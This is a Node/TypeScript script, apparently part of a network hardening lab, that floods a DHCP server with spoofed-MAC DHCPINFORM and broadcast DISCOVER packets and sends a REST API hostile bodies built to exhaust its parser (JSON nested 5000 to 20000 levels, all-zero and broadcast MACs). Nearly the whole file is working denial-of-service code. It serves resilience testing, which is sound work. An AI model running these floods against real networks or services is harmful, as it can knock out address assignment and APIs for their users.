// Attack traffic for the hardening lab, run inside the attacker's network
// namespace: `node flood.js KIND RATE SECONDS [ARG]`. Prints one JSON line
// with what it sent (and, for the API, the statuses it got) when done.
//
//   inform    DHCPINFORMs from a new random MAC each, to the server, with a
//             ciaddr off the network (random) or on it but unused
//   discover  broadcast DHCPDISCOVERs from a new random MAC each
//   api       hostile bodies (deeply nested JSON, bad MACs) to the REST API;
//             ARG: base URL and token, "http://10.0.0.1:8080,TOKEN"
//
// Spoofed TFTP requests need raw sockets: see spoof.py.
import dgram from 'node:dgram';
import { randomBytes } from 'node:crypto';

const [kind, rateText, secondsText, arg] = process.argv.slice(2);
const rate = Number(rateText);
const seconds = Number(secondsText);
if (!kind || !(rate > 0) || !(seconds > 0)) {
  console.error('usage: flood.js inform|discover|api RATE SECONDS [ARG]');
  process.exit(2);
}

function dhcp(type: number, mac: Buffer, ciaddr: number): Buffer {
  const b = Buffer.alloc(240);
  b[0] = 1;
  b[1] = 1;
  b[2] = 6;
  randomBytes(4).copy(b, 4);
  b.writeUInt32BE(ciaddr >>> 0, 12);
  mac.copy(b, 28);
  b.writeUInt32BE(0x63825363, 236);
  return Buffer.concat([b, Buffer.from([53, 1, type, 55, 3, 1, 3, 6, 255])]);
}

function randomMac(): Buffer {
  const m = randomBytes(6);
  m[0] = (m[0]! & 0xfc) | 0x02; // unicast, locally administered
  return m;
}

/** Every 10 ms, the packets due by now. */
async function paced(send: () => void | Promise<void>): Promise<number> {
  const t0 = Date.now();
  let sent = 0;
  while (Date.now() - t0 < seconds * 1000) {
    const due = Math.floor(((Date.now() - t0) / 1000) * rate);
    const batch: Array<void | Promise<void>> = [];
    for (; sent < due; sent++) batch.push(send());
    await Promise.all(batch);
    await new Promise((r) => setTimeout(r, 10));
  }
  return sent;
}

async function udp(make: () => Buffer, port: number, address: string): Promise<void> {
  const sock = dgram.createSocket('udp4');
  await new Promise<void>((r) => sock.bind(0, () => r()));
  sock.setBroadcast(true);
  let errors = 0;
  sock.on('error', () => errors++);
  const sent = await paced(() => {
    sock.send(make(), port, address);
  });
  sock.close();
  console.log(JSON.stringify({ kind, sent, errors }));
}

const deep = (n: number) => '['.repeat(n) + ']'.repeat(n);
const BODIES = [
  () => deep(5000),
  () => `{"name":"x${randomBytes(3).toString('hex')}","interfaces":[{"name":"eth0","mac":"52:54:00:${randomBytes(3).toString('hex').match(/../g)!.join(':')}","network":"inside"}],"vars":{"x":${deep(5000)}}}`,
  () => `{"name":"x${randomBytes(3).toString('hex')}","interfaces":[{"name":"eth0","mac":"52:54:00:${randomBytes(3).toString('hex').match(/../g)!.join(':')}","network":"inside"}],"vars":{"x":${deep(3000)}}}`,
  () => '{"a":'.repeat(20000) + '1' + '}'.repeat(20000),
  () => `{"name":"z${randomBytes(3).toString('hex')}","interfaces":[{"name":"eth0","mac":"00:00:00:00:00:00","network":"inside"}]}`,
  () => `{"name":"z${randomBytes(3).toString('hex')}","interfaces":[{"name":"eth0","mac":"ff:ff:ff:ff:ff:ff","network":"inside"}]}`,
];

async function api(): Promise<void> {
  const [base, token] = (arg ?? '').split(',');
  const statuses: Record<string, number> = {};
  let i = 0;
  const sent = await paced(async () => {
    const body = BODIES[i++ % BODIES.length]!();
    // Every other one without a token: unauthenticated requests never get as far as the body.
    const auth: Record<string, string> = i % 2 ? { authorization: `Bearer ${token}` } : {};
    try {
      const r = await fetch(`${base}/api/v1/nodes`, { method: 'POST', headers: { 'content-type': 'application/json', ...auth }, body, signal: AbortSignal.timeout(10_000) });
      await r.arrayBuffer();
      statuses[r.status] = (statuses[r.status] ?? 0) + 1;
    } catch (e) {
      const k = `error ${(e as Error).name}`;
      statuses[k] = (statuses[k] ?? 0) + 1;
    }
  });
  console.log(JSON.stringify({ kind, sent, statuses }));
}

if (kind === 'inform') {
  // Half off the network (any address, e.g. 0.146.0.0 or 213.0.0.0), half on it at unused addresses.
  let n = 0;
  await udp(() => dhcp(8, randomMac(), n++ % 2 ? randomBytes(4).readUInt32BE(0) : 0x0a000064 + (n % 100)), 67, '10.0.0.1');
} else if (kind === 'discover') {
  await udp(() => dhcp(1, randomMac(), 0), 67, '255.255.255.255');
} else if (kind === 'api') {
  await api();
} else {
  console.error(`unknown kind ${kind}`);
  process.exit(2);
}
